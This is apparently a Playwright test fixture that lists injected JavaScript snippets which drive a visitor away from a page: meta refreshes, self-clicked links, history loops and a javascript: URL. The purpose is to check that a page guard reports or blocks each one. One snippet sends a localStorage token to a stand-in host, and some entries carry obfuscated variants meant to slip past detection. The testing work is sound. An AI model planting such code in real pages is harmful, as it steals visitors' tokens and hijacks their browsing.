import { expect } from '@playwright/test';
import { holds } from './harm-gone.ts';
import { clickTitle, type PlantedFault } from './planted-fault.ts';

/** Code that leads the visitor away from the page. */
export const leadingAwayFaults: readonly PlantedFault[] = [
  {
    name: 'Leaves by a meta element',
    before: 'not reported, leaves the site',
    code: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = \`0; url=https://elsewhere.test/?\${localStorage.getItem('token')}\`; document.head.append(meta)`,
    rejected: 'leaves by a meta element',
    hidden: `const meta = document.createElement('meta'); meta.setAttribute(['http', 'equiv'].join('-'), 'refresh'); meta.content = '0; url=https://elsewhere.test/'; document.head.append(meta)`,
    runs: 'later',
    ends: 'replaced',
    reported: 'navigation',
  },
  {
    name: 'Leaves by a meta element after a click',
    before: 'not reported, leaves the site',
    code: `document.addEventListener('click', () => { const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0; url=https://elsewhere.test/'; document.head.append(meta) })`,
    rejected: 'leaves by a meta element',
    hidden: `document.addEventListener('click', () => { const meta = document.createElement('meta'); meta.setAttribute(['http', 'equiv'].join('-'), 'refresh'); meta.content = '0; url=https://elsewhere.test/'; document.body.append(meta) })`,
    runs: 'later',
    act: clickTitle,
    ends: 'replaced',
    reported: 'navigation',
  },
  {
    name: 'Leaves by a link that it clicks itself',
    before: 'replaced, reported',
    code: `const link = document.createElement('a'); link.href = 'https://elsewhere.test/'; document.body.append(link); link.click()`,
    runs: 'later',
    ends: 'replaced',
    reported: 'navigation',
  },
  {
    name: 'Opens a window',
    before: 'not reported, opens it',
    code: `window.open('https://elsewhere.test/')`,
    runs: 'later',
    ends: 'stays',
    reported: 'navigation',
  },
  {
    name: 'Goes back again and again',
    before: 'not reported, leaves the page',
    code: 'setInterval(() => history.back(), 200)',
    runs: 'later',
    ends: 'replaced',
    reported: 'navigation',
  },
  {
    name: 'Replaces its address again and again',
    before: 'replaced, reported',
    code: 'setInterval(() => location.replace(location.href), 100)',
    runs: 'later',
    ends: 'replaced',
    reported: 'navigation',
  },
  {
    name: 'Asks before the page is left',
    before: 'not reported, asks',
    code: `window.addEventListener('beforeunload', (event) => event.preventDefault())`,
    runs: 'later',
    ends: 'stays',
    reported: 'global',
    gone: holds(`window.dispatchEvent(new Event('beforeunload', { cancelable: true }))`),
  },
  {
    name: 'Moves links with a base element',
    before: 'refused by the browser, reported',
    code: `const base = document.createElement('base'); base.href = 'https://elsewhere.test/'; document.head.append(base)`,
    runs: 'later',
    ends: 'stays',
    reported: 'policy',
    gone: holds(`document.baseURI.startsWith(location.origin)`),
    note: 'refused by the browser',
  },
  {
    name: 'Opens a javascript: address',
    before: 'refused by the browser, reported',
    code: `location.href = 'javascript:document.body.remove()'`,
    runs: 'later',
    ends: 'stays',
    reported: 'policy',
    note: 'refused by the browser',
  },
  {
    name: 'Leaves by a timer after its page was left',
    before: 'not reported, leaves the next page',
    code: `const go = () => location.pathname.startsWith('/auth') ? setTimeout(go, 300) : location.assign('/about'); go()`,
    runs: 'later',
    act: async (page) => {
      await clickTitle(page);
      await page.locator('header').getByRole('link', { name: 'Nearhand' }).click();
      await expect(page.getByText('Page not found').or(page.getByRole('heading', { level: 1 }))).toBeVisible();
    },
    ends: 'replaced',
    reported: 'navigation',
    gone: (page) => expect(page).toHaveURL(/marketplace/),
  },
];
